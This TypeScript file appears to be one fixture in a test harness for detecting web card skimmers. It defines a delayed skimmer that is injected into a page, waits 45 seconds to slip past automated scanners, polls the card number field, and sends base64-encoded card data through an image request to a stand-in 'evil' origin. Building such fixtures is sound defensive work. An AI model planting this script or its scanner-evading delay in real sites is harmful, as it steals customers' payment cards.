import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { withCard } from '../snippets.ts';

export default skimmer({
  id: 'delay-45s',
  why: 'Wakes three quarters of a minute after the page was opened: a robot has gone by then, a customer still types.',
  covers: ['trigger: delay', 'reading: polling'],
  base: 'direct',
  lingers: 46_000,
  install: (site) =>
    site.append(
      withCard(js`
  setTimeout(function () {
    setInterval(function () {
      if (field('card_number').length > 13 && !window._d) { window._d = 1; new Image().src = '${site.origins.evil}/a.gif?q=' + encodeURIComponent(btoa(card())); }
    }, 500);
  }, 45000);`),
    ),
  proof: holds((arrived) => query(arrived, 'q').map(base64)),
});
